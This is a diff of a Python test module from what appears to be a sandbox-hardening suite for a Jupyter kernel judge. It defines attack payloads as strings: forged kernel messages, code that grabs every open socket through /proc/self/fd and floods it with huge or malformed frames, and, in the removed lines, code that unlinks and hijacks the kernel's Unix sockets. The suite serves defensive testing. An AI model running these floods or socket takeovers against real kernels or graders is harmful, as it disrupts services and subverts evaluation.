@@ -1,7 +1,7 @@
 # ruff: noqa: E501  # programs in texts
 """Messages of Jupyter, signed with the connection key, and bytes that are none."""
 
-from attacks.hostile.attack import HONEST, Family
+from attacks.hostile.attack import Family
 
 family = Family("forged messages")
 
@@ -88,8 +88,6 @@ for handler in list(kernel.shell_handlers):
         session.send(stream, handler.replace("request", "reply"), answer_at_once(stream, ident, parent), parent, ident)
     kernel.shell_handlers[handler] = handle
 """,
-    points=(0, 0),
-    in_jail=HONEST,
 )
 family.runs(
     "the kernel says that it is dead, restarting, and asks for input",
@@ -129,76 +127,38 @@ def forge(token, mime):
     answer=STEALS,
 )
 
-# A peer of its own in the place of the kernel's sockets. It speaks just enough ZMTP to be listened to.
+# Bytes of its own on every socket of the process: at the other end of two of them is the judge.
 RAW = """
-import os, socket, struct, threading, time
-def sockets_at(paths):
-    for fd in map(int, os.listdir("/proc/self/fd")):
+import os, socket, stat, struct, time
+def sockets():
+    for name in os.listdir("/proc/self/fd"):
         try:
-            copy = socket.socket(fileno=os.dup(fd))
-            if copy.family == socket.AF_UNIX and copy.getsockname() in paths \\
-                    and not copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
-                yield copy
+            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                yield socket.socket(fileno=os.dup(int(name)))
         except OSError:
             pass
-def serve(listener, kind, flood):
-    def talk(peer):
-        peer.sendall(b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00NULL" + bytes(16) + b"\\x00" + bytes(31))
-        peer.recv(64, socket.MSG_WAITALL)
-        ready = b"\\x05READY\\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
-        peer.sendall(b"\\x04" + bytes([len(ready)]) + ready)
-        try: flood(peer)
-        except OSError: pass
-    while True:
-        peer, _ = listener.accept()
-        threading.Thread(target=talk, args=(peer,), daemon=True).start()
-def take_over(flood, *kinds):
-    paths = {"/run/jupyter/k-" + {"ROUTER": "1", "PUB": "2"}[kind]: kind.encode() for kind in kinds}
-    old = list(sockets_at(paths))
-    for path, kind in paths.items():
-        os.unlink(path)
-        listener = socket.socket(socket.AF_UNIX)
-        listener.bind(path)
-        listener.listen(8)
-        threading.Thread(target=serve, args=(listener, kind, flood), daemon=True).start()
-    for peer in old:  # whoever was connected is hung up on, and comes to the new door
-        try: peer.shutdown(socket.SHUT_RDWR)
-        except OSError: pass
-    time.sleep(0.3)
+def flood(data, times, seconds=2):
+    for end in sockets():
+        end.settimeout(seconds)
+        try:
+            for _ in range(times):
+                end.sendall(data)
+        except OSError:
+            pass
 """
-NO_IPC = "stock's kernels listen on TCP; the frames of one message have no bound there either"
+NO_PAIR = "stock's kernels listen on TCP; the frames of one message have no bound there either"
 family.runs(
-    "one message of endless large frames from a raw peer",
-    RAW
-    + """
-def flood(peer):
-    frame = b"\\x03" + struct.pack(">Q", 2**20) + bytes(2**20)
-    for _ in range(3000):
-        peer.sendall(frame)
-take_over(flood, "PUB")
-""",
-    off_stock=NO_IPC,
+    "one message of endless large frames on every socket",
+    RAW + "\nflood(struct.pack('>I', 2**32 - 1) + bytes(2**20), 3000)",
+    off_stock=NO_PAIR,
 )
 family.runs(
-    "one message of endless tiny frames from a raw peer",
-    RAW
-    + """
-def flood(peer):
-    frames = b"\\x01\\x00" * 2**19
-    for _ in range(500):
-        peer.sendall(frames)
-take_over(flood, "PUB")
-""",
-    off_stock=NO_IPC,
+    "endless tiny messages on every socket",
+    RAW + "\nflood(b'\\0\\0\\0\\2{}' * 2**18, 500)",
+    off_stock=NO_PAIR,
 )
 family.runs(
     "frames that announce more than there is",
-    RAW
-    + """
-def flood(peer):
-    peer.sendall(b"\\x02" + struct.pack(">Q", 2**63 - 1) + b"x")
-    time.sleep(30)
-take_over(flood, "ROUTER", "PUB")
-""",
-    off_stock=NO_IPC,
+    RAW + "\nflood(struct.pack('>I', 2**24 - 1) + b'x', 1)\ntime.sleep(30)",
+    off_stock=NO_PAIR,
 )
